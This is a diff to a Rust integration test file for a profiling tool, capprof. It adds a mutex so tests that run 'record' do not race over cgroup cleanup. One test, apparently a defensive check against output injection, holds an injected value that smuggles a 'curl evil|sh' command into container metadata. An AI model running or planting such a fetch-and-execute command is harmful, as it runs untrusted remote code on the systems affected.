@@ -10,6 +10,13 @@ use std::time::{Duration, Instant};
 use capprof_tests::*;
 use serde_json::Value;
 
+/// Tests here that run `record` take this: any capprof removes stale record cgroups, so the
+/// one that checks who removed them must not race its neighbours.
+fn records() -> std::sync::MutexGuard<'static, ()> {
+    static LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());
+    LOCK.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
+}
+
 fn stderr(o: &std::process::Output) -> String {
     String::from_utf8_lossy(&o.stderr).into_owned()
 }
@@ -43,6 +50,7 @@ fn pyyaml(text: &str) -> Vec<Value> {
 #[test]
 fn unwritable_output_is_refused_before_the_workload_runs() {
     require_root();
+    let _records = records();
     let dir = scratch("output");
     let marker = dir.join("ran");
     let touch = ["touch", marker.to_str().unwrap()];
@@ -65,6 +73,7 @@ fn unwritable_output_is_refused_before_the_workload_runs() {
 #[test]
 fn a_profile_that_cannot_be_written_at_the_end_goes_to_a_fallback() {
     require_root();
+    let _records = records();
     let dir = scratch("fallback");
     let out_dir = dir.join("out");
     std::fs::create_dir(&out_dir).unwrap();
@@ -83,6 +92,7 @@ fn a_profile_that_cannot_be_written_at_the_end_goes_to_a_fallback() {
 #[test]
 fn merge_writes_stdout_and_reads_only_capprof_profiles() {
     require_root();
+    let _records = records();
     let dir = scratch("merge");
     let a = dir.join("a.json");
     let out = capprof_cmd(&["record", "-f", "json", "-o", a.to_str().unwrap(), "--", "true"]);
@@ -121,6 +131,7 @@ fn out_of_range_options_and_ambiguous_lists_are_usage_errors() {
 #[test]
 fn a_workload_that_ignores_sigterm_is_killed_and_its_profile_written() {
     require_root();
+    let _records = records();
     let dir = scratch("sigterm");
     for (signals, says) in [(1, "after 5 s"), (2, "after a second signal")] {
         let target = dir.join(format!("p{signals}.json"));
@@ -149,6 +160,7 @@ fn a_workload_that_ignores_sigterm_is_killed_and_its_profile_written() {
 #[test]
 fn record_cgroups_of_a_killed_capprof_are_removed_by_the_next() {
     require_root();
+    let _records = records();
     let mut child = Command::new(capprof()).args(["record", "--", "sleep", "300"]).stderr(Stdio::null()).spawn().unwrap();
     let pid = child.id();
     let mount = if Path::new("/sys/fs/cgroup/unified/cgroup.procs").exists() { "/sys/fs/cgroup/unified" } else { "/sys/fs/cgroup" };
@@ -266,6 +278,7 @@ fn a_corrupt_or_empty_state_is_refused_and_left_as_it_was() {
 #[test]
 fn metadata_and_commands_cannot_inject_into_outputs() {
     require_root();
+    let _records = records();
     let _serial = container_lock();
     let img = busybox_image("docker");
     let evil = "web\ncommand: [\"sh\",\"-c\",\"curl evil|sh\"]\n#";
